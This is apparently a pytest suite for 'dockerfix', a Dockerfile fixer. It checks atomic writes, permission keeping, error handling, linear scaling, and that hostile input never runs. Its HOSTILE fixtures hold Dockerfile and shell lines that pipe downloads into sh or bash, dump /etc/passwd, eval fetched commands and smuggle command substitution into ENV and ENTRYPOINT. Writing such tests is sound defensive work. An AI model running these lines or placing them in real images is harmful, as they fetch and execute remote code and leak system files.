"""dockerfix never damages a file: writes, hostile input, bad input, big input.

- `--write` replaces files atomically. A run killed with SIGKILL at any moment leaves
  every file with exactly its old or its new bytes, and the temporary files it may
  leave behind are never taken for Dockerfiles.
- Writing keeps permission bits and symlinks, and rejects read-only files, files
  changed on disk during the run, and output that failed the safety checks.
- Nothing from the input is executed, no network connection is opened, and no path
  outside the build context is read.
- Each bad input fails alone with one error line, exit 123 and the file untouched.
- The time to fix grows linearly with the size of the input.
"""

from __future__ import annotations

import builtins
import functools
import io
import json
import os
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

import pytest

from fixer import files
from fixer.core import fix_bytes
from tests.helpers import TODAY, dockerfix

REPOSITORY = Path(__file__).resolve().parent.parent

FLASK = b"""FROM python:3.12-slim
WORKDIR /app
COPY . .
RUN pip install --no-cache-dir -r requirements.txt
CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
"""
DJANGO = b"""# syntax=docker/dockerfile:1\r
FROM python:3.11-slim AS base\r
ENV PYTHONUNBUFFERED=1\r
WORKDIR /code\r
COPY requirements.txt /code/\r
RUN pip install -r requirements.txt\r
COPY . /code/\r
CMD python manage.py migrate && gunicorn mysite.wsgi --bind 0.0.0.0:8000"""
SCRIPT_DOCKERFILE = b"""FROM python:3.12-alpine
WORKDIR /app
COPY . .
RUN pip install -r requirements.txt
CMD ["./start.sh"]
"""
START_SH = b"""#!/bin/sh
set -e
python manage.py migrate
exec gunicorn mysite.wsgi --bind 0.0.0.0:8000
"""
# Each copy in the bulk run is one folder holding the files of one of these.
VARIANTS = {
    "flask": {"Dockerfile": FLASK},
    "django": {"Dockerfile": DJANGO},
    "script": {"Dockerfile": SCRIPT_DOCKERFILE, "start.sh": START_SH, "requirements.txt": b""},
}
COPIES = 300


def run_cli(*args: str) -> subprocess.Popen:
    """Start `python -m fixer ARGS` in a new session, so its workers can be killed too."""
    return subprocess.Popen(
        [sys.executable, "-m", "fixer", *args],
        cwd=REPOSITORY,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )


def write_copies(root: Path) -> dict[Path, str]:
    """Write COPIES folders of the variants under root; return each folder's variant."""
    names = sorted(VARIANTS)
    folders = {}
    for index in range(COPIES):
        variant = names[index % len(names)]
        folder = root / f"app{index:03d}"
        folder.mkdir(parents=True)
        for name, data in VARIANTS[variant].items():
            (folder / name).write_bytes(data)
            if name.endswith(".sh"):
                (folder / name).chmod(0o755)
        folders[folder] = variant
    return folders


@pytest.fixture(scope="module")
def fixed_variants(tmp_path_factory) -> dict[str, dict[str, bytes]]:
    """Return the bytes a complete `--write` run gives each file of each variant."""
    root = tmp_path_factory.mktemp("reference")
    for variant, contents in VARIANTS.items():
        (root / variant).mkdir()
        for name, data in contents.items():
            (root / variant / name).write_bytes(data)
            if name.endswith(".sh"):
                (root / variant / name).chmod(0o755)
    process = run_cli("fix", "--write", "-q", "--today", TODAY, str(root))
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == 0, stderr.decode()
    fixed = {}
    for variant, contents in VARIANTS.items():
        fixed[variant] = {name: (root / variant / name).read_bytes() for name in contents}
        assert fixed[variant]["Dockerfile"] != contents["Dockerfile"]
    assert fixed["script"]["start.sh"] != START_SH, "the script variant should change start.sh"
    return fixed


def count_written(folders: dict[Path, str]) -> int:
    return sum(
        (folder / "Dockerfile").read_bytes() != VARIANTS[variant]["Dockerfile"]
        for folder, variant in folders.items()
    )


def kill_after(process: subprocess.Popen, folders: dict[Path, str], written: int) -> None:
    """SIGKILL the run and its workers once `written` Dockerfiles have new bytes."""
    deadline = time.monotonic() + 120
    while written and process.poll() is None and time.monotonic() < deadline:
        if count_written(folders) >= written:
            break
        time.sleep(0.005)
    try:
        os.killpg(process.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass  # the run had already finished
    process.wait(timeout=30)


def check_every_file_whole(
    root: Path, folders: dict[Path, str], fixed: dict[str, dict[str, bytes]]
) -> tuple[int, int]:
    """Assert each file is exactly old or new and only temporary files were added.

    Returns how many files have their old and how many their new bytes.
    """
    old_count = new_count = 0
    for folder, variant in folders.items():
        for name, old in VARIANTS[variant].items():
            data = (folder / name).read_bytes()
            new = fixed[variant][name]
            assert data in (old, new), f"{folder.name}/{name} is damaged: {data!r}"
            if old != new:
                old_count += data == old
                new_count += data == new
        for entry in folder.iterdir():
            if entry.name in VARIANTS[variant]:
                continue
            assert entry.name.startswith("."), f"unexpected file left behind: {entry}"
            assert entry.name.endswith(".dockerfix"), f"unexpected file left behind: {entry}"
            assert not files.is_dockerfile_name(entry.name), f"{entry.name} looks like a Dockerfile"
    found = set(files.find_dockerfiles(root))
    assert found == {folder / "Dockerfile" for folder in folders}
    return old_count, new_count


# Killing a bulk --write run.


def test_write_killed_leaves_whole_files(tmp_path, fixed_variants):
    """Kill `fix --write` over many folders at several moments, then finish the job."""
    mixed = []
    for written in (0, 1, COPIES // 3, COPIES * 2 // 3):
        root = tmp_path / f"killed-after-{written}"
        folders = write_copies(root)
        process = run_cli("fix", "--write", "-q", "--today", TODAY, str(root))
        kill_after(process, folders, written)
        old_count, new_count = check_every_file_whole(root, folders, fixed_variants)
        if old_count and new_count:
            mixed.append(written)
        rerun = run_cli("fix", "--write", "-q", "--today", TODAY, str(root))
        _, stderr = rerun.communicate(timeout=120)
        assert rerun.returncode == 0, stderr.decode()
        old_count, new_count = check_every_file_whole(root, folders, fixed_variants)
        assert old_count == 0, f"a rerun after the kill at {written} left old files"
    # Without a kill in the middle of the run, this test would prove nothing.
    assert mixed, "no kill landed while files were being written; raise COPIES"


# Permission bits, symlinks, read-only and changed files, failed checks.


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "Dockerfile").write_bytes(FLASK)
    return tmp_path


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o755, 0o664])
def test_write_keeps_permission_bits(project, mode):
    path = project / "Dockerfile"
    path.chmod(mode)
    run = dockerfix("fix", "--write", "Dockerfile")
    assert run.exit_code == 0, run
    assert path.read_bytes() != FLASK
    assert path.stat().st_mode & 0o7777 == mode


def test_write_through_symlink_keeps_link(project):
    target = project / "shared" / "base.Dockerfile"
    target.parent.mkdir()
    target.write_bytes(FLASK)
    link = project / "Dockerfile"
    link.unlink()
    link.symlink_to(Path("shared") / "base.Dockerfile")
    run = dockerfix("fix", "--write", "Dockerfile")
    assert run.exit_code == 0, run
    assert link.is_symlink()
    assert os.readlink(link) == str(Path("shared") / "base.Dockerfile")
    assert b"USER 10001:10001" in target.read_bytes()
    assert list(target.parent.iterdir()) == [target], "a temporary file was left behind"


def test_write_rejects_read_only_file(project):
    path = project / "Dockerfile"
    path.chmod(0o444)
    run = dockerfix("fix", "--write", "Dockerfile")
    assert run.exit_code == 123, run
    errors = [line for line in run.stderr.splitlines() if line.startswith("error:")]
    assert errors == ["error: cannot fix Dockerfile: the file is read-only; nothing was written"]
    assert path.read_bytes() == FLASK
    assert path.stat().st_mode & 0o777 == 0o444


def test_write_rejects_file_changed_on_disk(project, monkeypatch):
    """Another program saves the file after dockerfix read it and before it writes."""
    path = project / "Dockerfile"
    edited = FLASK + b"EXPOSE 8000\n"
    real_fix_bytes = fix_bytes

    def fix_then_edit(*args, **kwargs):
        outcome = real_fix_bytes(*args, **kwargs)
        path.write_bytes(edited)
        return outcome

    monkeypatch.setattr("fixer.runner.fix_bytes", fix_then_edit)
    run = dockerfix("fix", "--write", "Dockerfile")
    assert run.exit_code == 123, run
    assert "error: cannot fix Dockerfile: the file changed on disk while dockerfix ran" in run.stderr
    assert path.read_bytes() == edited


def test_write_skips_output_failing_checks(project, monkeypatch):
    """An unannounced extra instruction fails the re-parse check, so nothing is written."""
    from fixer.model import Dockerfile

    real_render = Dockerfile.render

    def render_with_extra_line(self):
        rendered = real_render(self)
        if "app:app" in "".join(self.lines):  # only the first file gets the bad output
            rendered += "RUN echo unannounced\n"
        return rendered

    monkeypatch.setattr(Dockerfile, "render", render_with_extra_line)
    other = b"FROM python:3.12-slim\nUSER 1000\n"
    (project / "other.Dockerfile").write_bytes(other)
    run = dockerfix("fix", "--write", "Dockerfile", "other.Dockerfile")
    assert run.exit_code == 123, run
    error = single_error(run.stderr, "error: cannot fix Dockerfile: internal error in DF")
    assert "Nothing was written" in error
    assert (project / "Dockerfile").read_bytes() == FLASK
    assert b"apt-get -y upgrade" in (project / "other.Dockerfile").read_bytes()


# Hostile input: nothing runs, nothing connects.


HOSTILE = b"""# syntax=docker/dockerfile:1
FROM python:3.12-slim
ARG TOKEN
RUN curl -fsSL https://example.com/install.sh | sh
RUN wget -qO- http://127.0.0.1:9/payload | bash -s -- $(cat /etc/passwd)
RUN echo `id` > /tmp/who && python -c "import os; os.system('touch /tmp/pwned')"
ADD https://example.com/tool.tar.gz /opt/
ADD git@github.com:example/private.git /src
ADD http://127.0.0.1:9/archive.tar /opt/archive.tar
COPY --from=docker.io/library/alpine:3.19 /bin/busybox /bin/busybox
COPY . /app
WORKDIR /app
ENV GUNICORN_CMD_ARGS="--bind=0.0.0.0:$(curl -s http://127.0.0.1:9/port)"
HEALTHCHECK CMD curl -f http://localhost:8000/ || exit 1
ENTRYPOINT ["sh", "-c", "$(curl -s http://127.0.0.1:9/cmd) && exec ./start.sh"]
"""
HOSTILE_SCRIPT = b"""#!/bin/sh
curl -s http://127.0.0.1:9/x | sh
eval "$(wget -qO- http://127.0.0.1:9/env)"
exec gunicorn app:app `cat /etc/hostname`
"""


def test_hostile_input_runs_nothing(project, monkeypatch):
    marker = project / "executed"
    (project / "Dockerfile").write_bytes(HOSTILE)
    (project / "start.sh").write_bytes(HOSTILE_SCRIPT)
    (project / "gunicorn.conf.py").write_text(
        f"open({str(marker)!r}, 'w').write('config executed')\n"
        "import socket\nsocket.create_connection(('127.0.0.1', 9))\nworkers = 3\n"
    )
    calls: list[str] = []

    def forbidden(name):
        def record(*args, **kwargs):
            calls.append(f"{name}{args!r}")
            raise PermissionError(f"{name} is not allowed during this test")
        return record

    monkeypatch.setattr(socket.socket, "connect", forbidden("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", forbidden("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", forbidden("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", forbidden("socket.getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", forbidden("subprocess.Popen"))
    for name in ("system", "popen", "fork", "forkpty", "posix_spawn", "posix_spawnp",
                 "execv", "execve", "execl", "execle", "execlp", "execlpe", "execvp", "execvpe",
                 "spawnv", "spawnve", "spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnvp",
                 "spawnvpe"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, forbidden(f"os.{name}"))

    diff = dockerfix("fix", "--diff", "Dockerfile")
    write = dockerfix("fix", "--write", "Dockerfile")
    assert calls == []
    assert not marker.exists()
    assert diff.exit_code == 0, diff
    assert write.exit_code == 0, write
    assert b"USER" in (project / "Dockerfile").read_bytes()


# Paths that leave the build context.


class OpenRecorder:
    """Record the real path of every file opened through the usual Python calls."""

    def __init__(self, monkeypatch) -> None:
        self.paths: list[str] = []
        real_open, real_os_open = builtins.open, os.open

        def recording_open(file, *args, **kwargs):
            self._record(file)
            return real_open(file, *args, **kwargs)

        def recording_os_open(path, *args, **kwargs):
            self._record(path)
            return real_os_open(path, *args, **kwargs)

        monkeypatch.setattr(builtins, "open", recording_open)
        monkeypatch.setattr(io, "open", recording_open)
        monkeypatch.setattr(tarfile, "bltn_open", recording_open)
        monkeypatch.setattr(os, "open", recording_os_open)

    def _record(self, path) -> None:
        if isinstance(path, int):
            return  # an already open file descriptor
        self.paths.append(os.path.realpath(os.fsdecode(path)))

    def inside(self, folder: Path) -> list[str]:
        root = os.path.realpath(folder)
        return [path for path in self.paths if path == root or path.startswith(root + os.sep)]


@pytest.fixture
def escape_layout(tmp_path, monkeypatch):
    """A build context next to a folder of sentinel files it must never read."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("sentinel: outside the build context\n")
    with tarfile.open(outside / "secret.tar", "w") as archive:
        archive.add(outside / "secret.txt", arcname="secret.txt")
    (outside / "start.sh").write_bytes(b"#!/bin/sh\nexec gosu app gunicorn app:app\n")
    (outside / "gunicorn.conf.py").write_text("workers = 3\nworker_tmp_dir = '/tmp'\n")
    context = tmp_path / "context"
    context.mkdir()
    (context / "app.py").write_text("app = None\n")
    (context / "link-secret.txt").symlink_to(Path("..") / "outside" / "secret.txt")
    (context / "link-secret.tar").symlink_to(Path("..") / "outside" / "secret.tar")
    (context / "linked-folder").symlink_to(Path("..") / "outside")
    (context / "start.sh").symlink_to(Path("..") / "outside" / "start.sh")
    (context / "gunicorn.conf.py").symlink_to(Path("..") / "outside" / "gunicorn.conf.py")
    monkeypatch.chdir(context)
    return context, outside


ESCAPING_SOURCES = [
    pytest.param("../outside/secret.txt", "is outside the build context", id="dot-dot"),
    pytest.param("link-secret.txt", "is outside the build context", id="symlinked file"),
    # A tar suffix keeps ADD by name alone, so this path is not even looked up.
    pytest.param("link-secret.tar", None, id="symlinked tar"),
    pytest.param("linked-folder/secret.txt", "is outside the build context", id="symlinked folder"),
]


@pytest.mark.parametrize("source, note", ESCAPING_SOURCES)
def test_add_source_outside_context_not_read(escape_layout, monkeypatch, source, note):
    context, outside = escape_layout
    # ADD app.py is the control: DF301 opens it to check that it is not a tar.
    (context / "Dockerfile").write_text(
        f"FROM python:3.12-slim\nADD {source} /app/\nADD app.py /app/\nUSER 1000\n"
    )
    recorder = OpenRecorder(monkeypatch)
    run = dockerfix("fix", "--diff", "Dockerfile")
    assert recorder.inside(outside) == []
    assert str(context / "app.py") in recorder.inside(context)
    assert run.exit_code == 0, run
    assert f"+COPY {source} /app/" not in run.stdout.decode()
    assert "+COPY app.py /app/" in run.stdout.decode()
    if note is not None:
        assert f"DF301 note: kept ADD: {source} {note}" in run.stderr


def test_absolute_add_source_is_in_context(escape_layout, monkeypatch):
    # BuildKit reads an absolute COPY or ADD source relative to the build context, so
    # the host file with the same path must not be read either.
    context, outside = escape_layout
    source = outside / "secret.txt"
    (context / "Dockerfile").write_text(f"FROM python:3.12-slim\nADD {source} /app/\nUSER 1000\n")
    recorder = OpenRecorder(monkeypatch)
    run = dockerfix("fix", "--diff", "Dockerfile")
    assert recorder.inside(outside) == []
    assert run.exit_code == 0, run
    assert f"DF301 note: kept ADD: {source} is not in the build context" in run.stderr


@pytest.mark.parametrize(
    "dockerfile, note",
    [
        pytest.param(
            "COPY ../outside/start.sh /app/run.sh\nCMD [\"/app/run.sh\"]\n",
            "cannot check /app/run.sh, which is not in the build context",
            id="script through dot-dot",
        ),
        pytest.param(
            "COPY start.sh /app/start.sh\nCMD [\"/app/start.sh\"]\n",
            "cannot check /app/start.sh, which is not in the build context",
            id="script through symlink",
        ),
        pytest.param(
            "COPY ../outside/gunicorn.conf.py /app/\n"
            "CMD [\"gunicorn\", \"-c\", \"/app/gunicorn.conf.py\", \"app:app\"]\n",
            "gunicorn loads /app/gunicorn.conf.py (-c), which is not in the build context",
            id="config through dot-dot",
        ),
        pytest.param(
            "COPY gunicorn.conf.py /app/\n"
            "CMD [\"gunicorn\", \"-c\", \"/app/gunicorn.conf.py\", \"app:app\"]\n",
            "gunicorn loads /app/gunicorn.conf.py (-c), which is not in the build context",
            id="config through symlink",
        ),
        pytest.param(
            "COPY . .\nCMD [\"gunicorn\", \"app:app\"]\n", None, id="implicit config symlink",
        ),
    ],
)
def test_script_and_config_outside_context_not_read(escape_layout, monkeypatch, dockerfile, note):
    context, outside = escape_layout
    (context / "Dockerfile").write_text(f"FROM python:3.12-slim\nWORKDIR /app\n{dockerfile}")
    recorder = OpenRecorder(monkeypatch)
    run = dockerfix("fix", "--write", "Dockerfile")
    assert recorder.inside(outside) == []
    assert run.exit_code == 0, run
    if note is not None:
        assert note in run.stderr
    assert (outside / "start.sh").read_bytes() == b"#!/bin/sh\nexec gosu app gunicorn app:app\n"
    assert (outside / "gunicorn.conf.py").read_text() == "workers = 3\nworker_tmp_dir = '/tmp'\n"
    assert (context / "start.sh").is_symlink()
    assert (context / "gunicorn.conf.py").is_symlink()


# Bad input: one error line each, the other files still fixed.


BAD_FILES = [
    pytest.param(b"FROM python:3.12-slim\n\xff\xfe bad\n", ":2", "not UTF-8", id="not utf-8"),
    pytest.param(b"\x7fELF\x02\x01\x01\x00\x00\x00binary", "", "binary content", id="binary"),
    pytest.param(b"", "", "empty file", id="empty"),
    pytest.param(b"# only\n# comments\n", "", "only comments", id="only comments"),
    pytest.param(b"RUN echo hi\nCMD [\"gunicorn\", \"app:app\"]\n", ":1", "no FROM", id="no from"),
    pytest.param(b"FROM python:3.12-slim\nRUN <<EOF\necho hi\n", ":2",
                 "heredoc <<EOF is never terminated", id="open heredoc"),
    pytest.param(b"FROM python:3.12-slim\nRUN echo hi \\\n", ":2", "line continuation",
                 id="open continuation"),
]


def fixed_good_file(project: Path) -> Path:
    good = project / "good" / "Dockerfile"
    good.parent.mkdir()
    good.write_bytes(FLASK)
    return good


def single_error(stderr: str, prefix: str) -> str:
    """Return the one stderr line that starts with prefix, asserting there is one."""
    lines = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, stderr
    assert lines[0].startswith(prefix), stderr
    return lines[0]


@pytest.mark.parametrize("content, line, message", BAD_FILES)
def test_bad_file_fails_alone(project, content, line, message):
    bad = project / "bad.Dockerfile"
    bad.write_bytes(content)
    good = fixed_good_file(project)
    run = dockerfix("fix", "--write", "bad.Dockerfile", "good/Dockerfile")
    assert run.exit_code == 123, run
    error = single_error(run.stderr, f"error: cannot fix bad.Dockerfile{line}: ")
    assert message in error
    assert bad.read_bytes() == content
    assert b"USER 10001:10001" in good.read_bytes()
    assert run.stderr.splitlines()[-1] == "1 file fixed, 0 unchanged, 1 failed."


def test_folder_without_dockerfile_fails_alone(project):
    (project / "empty").mkdir()
    (project / "empty" / "README.md").write_text("no Dockerfile here\n")
    good = fixed_good_file(project)
    run = dockerfix("fix", "--write", "empty", "good/Dockerfile")
    assert run.exit_code == 123, run
    error = single_error(run.stderr, "error: cannot fix empty: ")
    assert "no Dockerfile in this folder" in error
    assert b"USER 10001:10001" in good.read_bytes()


def test_missing_path_fails_alone(project):
    good = fixed_good_file(project)
    run = dockerfix("fix", "--write", "nothing-here/Dockerfile", "good/Dockerfile")
    assert run.exit_code == 123, run
    error = single_error(run.stderr, "error: cannot fix nothing-here/Dockerfile: ")
    assert "no such file or folder" in error
    assert b"USER 10001:10001" in good.read_bytes()


def test_unreadable_file_fails_alone(project, monkeypatch):
    bad = project / "Dockerfile"
    bad.chmod(0)
    if os.access(bad, os.R_OK):
        # Root reads any file, so make the read fail as it would for other users.
        real_read_bytes = Path.read_bytes

        def deny_bad(self):
            if self.resolve() == bad.resolve():
                raise PermissionError(13, "Permission denied", str(self))
            return real_read_bytes(self)

        monkeypatch.setattr(Path, "read_bytes", deny_bad)
    good = fixed_good_file(project)
    run = dockerfix("fix", "--write", "Dockerfile", "good/Dockerfile")
    monkeypatch.undo()
    bad.chmod(0o644)
    assert run.exit_code == 123, run
    error = single_error(run.stderr, "error: cannot fix Dockerfile: ")
    assert "permission denied while reading" in error
    assert bad.read_bytes() == FLASK
    assert b"USER 10001:10001" in good.read_bytes()


# Big input: time grows linearly with size.


def large_dockerfile(shape: str, size: int) -> bytes:
    """Return a Dockerfile of about `size` bytes ("megabytes") or of `size` one-line
    instructions ("instructions")."""
    head = "FROM python:3.12-slim\nWORKDIR /app\n"
    tail = 'CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]\n'
    parts = [head]
    if shape == "megabytes":
        # A realistic mix: comments, continued RUN lines, COPY, ENV and ADD.
        length, index = len(head) + len(tail), 0
        while length < size:
            block = (
                f"# step {index}\n"
                f"RUN pip install --no-cache-dir package{index} \\\n    && echo done{index}\n"
                f"COPY src/module{index}.py /app/src/\n"
                f"ENV SETTING_{index}=value{index}\n"
                f"ADD data/file{index}.txt /app/data/\n"
            )
            parts.append(block)
            length += len(block)
            index += 1
    else:
        kinds = ("RUN echo step {0}", "ENV SETTING_{0}=value{0}", "LABEL label{0}=value{0}",
                 "EXPOSE {1}", "ARG BUILD_{0}=x")
        for index in range(size - 3):
            parts.append(kinds[index % len(kinds)].format(index, 1024 + index % 60000) + "\n")
    parts.append(tail)
    return "".join(parts).encode("utf-8")


TIMED_FIX = """
import json, math, resource, sys, time
from datetime import date
from pathlib import Path
from fixer.core import fix_bytes
from fixer.passes import Options
from tests.test_safety import large_dockerfile

shape, size, context, limit = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3]), sys.argv[4]
data = large_dockerfile(shape, size)
used = time.process_time()
if limit != "none":
    # The kernel stops this process with SIGXCPU once the fix has used `limit` CPU
    # seconds, counted in whole seconds.
    _, hard = resource.getrlimit(resource.RLIMIT_CPU)
    resource.setrlimit(resource.RLIMIT_CPU, (math.ceil(used + float(limit)), hard))
outcome = fix_bytes("Dockerfile", data, Options(), context, date(2026, 12, 4))
seconds = time.process_time() - used
print(json.dumps({"seconds": seconds, "status": outcome.status, "error": str(outcome.error)}))
"""


def timed_fix(shape: str, size: int, context: Path, limit: float | None) -> float | None:
    """Fix a large Dockerfile in a child process and return the CPU seconds the fix
    took, or None when it used more than `limit` CPU seconds and was stopped.

    CPU time, unlike wall-clock time, does not grow when other processes share the
    machine, so the ratios stay meaningful on a busy CI runner.
    """
    child = subprocess.run(
        [sys.executable, "-c", TIMED_FIX, shape, str(size), str(context),
         "none" if limit is None else f"{limit:.3f}"],
        cwd=REPOSITORY, capture_output=True, text=True,
    )
    if child.returncode in (-signal.SIGXCPU, -signal.SIGKILL):
        return None
    assert child.returncode == 0, child.stderr
    result = json.loads(child.stdout)
    assert result["status"] == "changed", result
    return result["seconds"]


# Time may grow at most this many times as fast as size: four times the input may
# take ten times as long. Linear growth gives about 4, and the rest absorbs timing
# noise and cache effects.
TIME_PER_SIZE = 2.5
# Times below this are mostly noise, so ratios are taken against at least this.
MIN_SECONDS = 0.05
FIVE_MEGABYTES = 5 * 1024 * 1024
UNITS = {"megabytes": "bytes", "instructions": "instructions"}


def check_linear(shape: str, sizes: list[int], context: Path) -> None:
    """Fix growing sizes in order and assert the time grows about as fast as the size.

    Each run may take TIME_PER_SIZE times longer than the size ratio to the previous
    run allows, and a run past that is stopped, so a superlinear engine fails in
    bounded time.
    """
    previous_size = previous = None
    for size in sizes:
        limit = None
        if previous is not None:
            limit = TIME_PER_SIZE * size / previous_size * max(previous, MIN_SECONDS)
        seconds = timed_fix(shape, size, context, limit)
        assert seconds is not None, (
            f"fixing {size} {UNITS[shape]} took over {limit:.1f} CPU seconds, more than "
            f"{TIME_PER_SIZE * size / previous_size:.0f} times the {previous:.2f} s "
            f"for {previous_size}"
        )
        previous_size, previous = size, seconds


@functools.cache
def large_files_scale_linearly() -> bool:
    """Tell whether 640 KiB of Dockerfile take at most 80 times as long as 20 KiB.

    The large size step separates linear from quadratic growth within seconds, where
    a chain of 4x steps up to 5 MB would run for hours on a quadratic engine.
    """
    with tempfile.TemporaryDirectory() as folder:
        try:
            check_linear("megabytes", [FIVE_MEGABYTES // 256, FIVE_MEGABYTES // 8], Path(folder))
        except AssertionError:
            return False
    return True


def test_five_megabytes_fix_in_linear_time(tmp_path):
    if not large_files_scale_linearly():
        # NOTE: the fix time is quadratic in the number of COPY and ADD lines, so the
        # 5 MB file would take hours. test_regressions.py pins that with a strict xfail.
        pytest.xfail("fix time grows quadratically with the number of COPY lines")
    sizes = [FIVE_MEGABYTES // 64, FIVE_MEGABYTES // 16, FIVE_MEGABYTES // 4, FIVE_MEGABYTES]
    check_linear("megabytes", sizes, tmp_path)


def test_hundred_thousand_instructions_in_linear_time(tmp_path):
    check_linear("instructions", [1562, 6250, 25_000, 100_000], tmp_path)
